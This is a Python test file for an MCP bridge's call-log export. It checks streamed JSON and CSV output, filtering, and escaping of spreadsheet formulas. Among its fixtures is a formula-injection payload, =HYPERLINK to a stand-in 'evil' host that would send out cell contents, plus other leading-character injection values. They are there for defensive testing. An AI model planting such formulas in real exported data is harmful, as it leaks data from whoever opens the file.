"""Calls as files: whole, in pieces, and with nothing that a spreadsheet computes."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpbridge.app.console.pages.calls.export import csv_lines, exported
from mcpbridge.storage.call_log.format import CallRecord, insert_calls
from mcpbridge.storage.call_log.reader import Filter
from mcpbridge.storage.call_log.schema import SCHEMA
from mcpbridge.storage.sqlite.database import open_file

HOSTILE = '=HYPERLINK("http://evil/?x="&A1)'


def record(number: int, **changes: Any) -> CallRecord:
    values: dict[str, Any] = {
        "at": 1_785_000_000.0 + number,
        "seconds": 0.5,
        "method": "tools/call",
        "server": "git",
        "tool": "git/log",
        "client": "ear",
        "principal": "",
        "session": "s",
        "run": "",
        "outcome": "ok",
        "error": "",
        "arguments": b'{"n":%d}' % number,
        "result": b'{"content":[{"type":"text","text":"a, \\"b\\"\\n\xc3\xbc"}]}',
        "keeps_content": True,
        "uid": 1_000_000 + number,
    }
    return CallRecord(**{**values, **changes})


def written(path: Path, *records: CallRecord) -> Path:
    connection = open_file(path, SCHEMA)
    with connection:
        connection.execute("BEGIN")
        insert_calls(connection, records, str, 65536)
    connection.close()
    return path


async def pieces(path: Path, kind: Any, which: Filter | None = None) -> list[bytes]:
    return [piece async for piece in exported(path, which or Filter(), kind, content=True)]


async def test_json_is_one_document_of_all_calls_in_pieces(tmp_path: Path) -> None:
    path = written(tmp_path / "calls.db", *map(record, range(1201)))
    parts = await pieces(path, "json")
    assert len(parts) >= 4  # it is never in memory whole
    rows = json.loads(b"".join(parts))
    assert [json.loads(row["arguments"]["content"])["n"] for row in rows] == list(range(1200, -1, -1))


async def test_csv_has_a_line_of_each_call(tmp_path: Path) -> None:
    path = written(tmp_path / "calls.db", *map(record, range(1201)))
    parts = await pieces(path, "csv")
    assert len(parts) >= 4
    rows = list(csv.DictReader(io.StringIO(b"".join(parts).decode(), newline="")))
    assert [json.loads(row["arguments"])["n"] for row in rows] == list(range(1200, -1, -1))
    assert rows[0]["result"] == record(0).result.decode()  # type: ignore[union-attr]
    assert rows[0]["uid"] == f"{1_001_200:016x}"


async def test_only_what_is_filtered_is_written(tmp_path: Path) -> None:
    path = written(tmp_path / "calls.db", record(1), record(2, server="web", tool="web/get"), record(3))
    (row,) = json.loads(b"".join(await pieces(path, "json", Filter(server="web"))))
    assert row["tool"] == "web/get"
    assert json.loads(b"".join(await pieces(path, "json", Filter(server="none")))) == []


@pytest.mark.parametrize("kind", ["json", "csv"])
async def test_without_a_file_there_are_no_calls(tmp_path: Path, kind: str) -> None:
    whole = b"".join(await pieces(tmp_path / "none.db", kind)).decode()
    assert json.loads(whole) == [] if kind == "json" else whole.startswith("uid,at,")
    assert not (tmp_path / "none.db").exists()


async def test_nothing_that_others_say_is_a_formula(tmp_path: Path) -> None:
    """OWASP, CSV Injection: a cell that begins so is computed when the file is opened."""
    path = written(
        tmp_path / "calls.db",
        record(1, client=HOSTILE, tool=f"git/{HOSTILE}", principal="@SUM(1)", arguments=b"-1+cmd", result=b"\t=1+1"),
        record(2, client="+1", principal="\r=1", run="-x", session=" =1", error="\uff1d1"),
    )
    whole = b"".join(await pieces(path, "csv")).decode()
    rows = list(csv.DictReader(io.StringIO(whole, newline="")))
    for row in rows:
        for name, cell in row.items():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (name, cell)
    assert rows[-1]["client"] == f"'{HOSTILE}"


@given(st.text(max_size=20), st.text(max_size=20))
def test_each_cell_is_one_cell(client: str, error: str) -> None:
    row = {
        "at": "2026-07-28T12:00:00.000Z",
        "method": "tools/call",
        "server": "git",
        "tool": "git/log",
        "client": client,
        "error": error,
        "outcome": "failed",
        "arguments": {"size": 2},
    }
    data = csv_lines([row]).decode()
    (cells,) = list(csv.reader(io.StringIO(data, newline="")))
    clean = client.replace("\0", "").encode("utf-8", "replace").decode()
    assert cells[6] in (clean, f"'{clean}")
    assert not cells[6].startswith(("=", "+", "-", "@"))
